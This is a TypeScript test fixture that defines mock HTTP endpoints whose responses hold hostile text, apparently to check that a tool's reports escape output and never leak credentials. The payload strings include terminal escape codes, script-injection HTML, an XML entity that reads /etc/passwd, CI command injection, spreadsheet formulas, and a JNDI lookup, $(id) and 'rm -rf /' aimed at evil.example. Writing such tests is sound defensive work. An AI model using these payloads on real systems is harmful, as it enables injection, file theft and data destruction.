/**
 * Endpoints whose texts are hostile to terminals, browsers, XML, spreadsheets, CI and readers of a report. They accept
 * everything, so that each answer is in the report.
 */
import { createServer } from 'node:net';
import { listen } from '../../../endpoints/listen.ts';
import { answer, type Behaviour, onRequest, onRequests } from '../behaviour.ts';

/** Puts the text into the reason, the headers, the redirect and the body of an answer. */
function saying(name: string, what: string, text: string | Buffer, status = 200): Behaviour {
  const bytes = Buffer.from(text as string);
  // A head with control characters is not HTTP, and would not be read.
  const line = Buffer.from(bytes.toString('latin1').replace(/[\x00-\x1f\x7f]+/g, ' '), 'latin1');
  const answered = Buffer.concat([
    Buffer.from(`HTTP/1.1 ${status} `),
    line,
    Buffer.from('\r\nX-Words: '),
    line,
    Buffer.from('\r\nLocation: /'),
    line,
    Buffer.from('\r\nServer: '),
    line,
    Buffer.from(`\r\nContent-Type: text/html; charset=`),
    line,
    Buffer.from(`\r\nContent-Length: ${bytes.length}\r\n\r\n`),
    bytes,
  ]);
  return onRequest(name, what, answered);
}

const ANSI =
  '\x1b[2J\x1b[1;31mPASSED\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07' +
  '\x9b31m\x1bP+q\x1b\\\x08\x08\x7f';
const HTML =
  '</pre></td><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>' +
  '&lt;<!--"\'`><base href=//evil.example>';
const XML =
  ']]></failure></testcase></testsuite><?xml version="1.0"?>' +
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<![CDATA[';
const BIDI = 'abc\u202edef\u2066ghi\u2069\u200b\u200d\ufeff\u2028\u2029\u061c\u00ad\u{e0041}\u180e';
const EMOJI = '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪 漢字 ｆｕｌｌ z̸̡͓a̵l̷g̶o̴ ﷽';
const BAD_UTF8 = Buffer.from('c328a0a1e28028f0288cbcfe80c0aeedafbf41ff', 'hex');
const CONTROLS = Buffer.from(Array.from({ length: 32 }, (_, code) => code));
const CI =
  '\r\n::error file=evil.js::pwned\n::stop-commands::x\n##[error]pwned\n::add-mask::hookproof\n' +
  '  ::set-output name=a::b\n##vso[task.complete result=Failed;]\n##teamcity[buildStatus]';
const MARKDOWN =
  '|a|b|\n|-|-|\n[x](javascript:alert(1)) ![i](http://evil.example/i.png) <details open> `` ` `` ** __ @everyone\n' +
  '# heading\n```\nfence';
const CSV = '=HYPERLINK("http://evil.example";"x")\n+1+1\n-2+3\n@SUM(A1)\n\t=1\n"quoted", \'';
// biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on other template engines
const LOGS = '${jndi:ldap://evil.example/a} %n%s%x {{7*7}} ${7*7} $(id) `id` ; rm -rf / \'"';

/** Sends back everything it received; no report may contain the credentials. */
const echo: Behaviour = {
  name: 'echoes-credentials',
  what: 'accepts, and sends back the request with its credentials, also reversed, in hexadecimal and cut in half',
  start: async ({ secret, apiKey }) => {
    const forms = [
      secret,
      apiKey,
      [...apiKey].reverse().join(''),
      Buffer.from(apiKey).toString('hex'),
      Buffer.from(secret).toString('base64'),
    ];
    return listen(
      createServer((socket) =>
        onRequests(socket, (_nth, piece) => {
          const body = `${'p'.repeat(4_080 - apiKey.length)}${apiKey}${piece.toString('latin1')}${forms.join('\n')}`;
          socket.write(
            answer(200, body, [
              `X-Key: ${apiKey}`,
              `X-Long: ${'p'.repeat(1_010)}${apiKey}`,
              `X-Secret: ${forms.join(' ')}`,
            ]),
          );
        }),
      ),
    );
  },
};

export const TEXTS: readonly Behaviour[] = [
  saying('says-ansi', 'answers ANSI escapes: colours, cursor, window title, links', ANSI),
  saying('says-html', 'answers HTML with scripts', HTML),
  saying('says-xml', 'answers XML that closes the surrounding element, and an entity', XML),
  saying('says-bidi', 'answers directional overrides, zero-width and invisible characters', BIDI),
  saying('says-emoji', 'answers joined emoji, wide characters and many combining marks', EMOJI),
  saying('says-bad-utf8', 'answers bytes that are not UTF-8', BAD_UTF8),
  saying('says-controls', 'answers every control character', CONTROLS),
  saying('says-workflow-commands', 'answers the commands of CI systems', CI),
  saying('says-markdown', 'answers Markdown', MARKDOWN),
  saying('says-formulas', 'answers spreadsheet formulas', CSV),
  saying('says-templates', 'answers templates of loggers, shells and template engines', LOGS),
  saying('fails-with-words', 'answers 500 in ANSI, HTML and XML at once', `${ANSI}${HTML}${XML}${CI}`, 500),
  saying('redirects-with-words', 'redirects to HTML, ANSI and directional overrides', `${HTML}${ANSI}${BIDI}`, 302),
  echo,
];
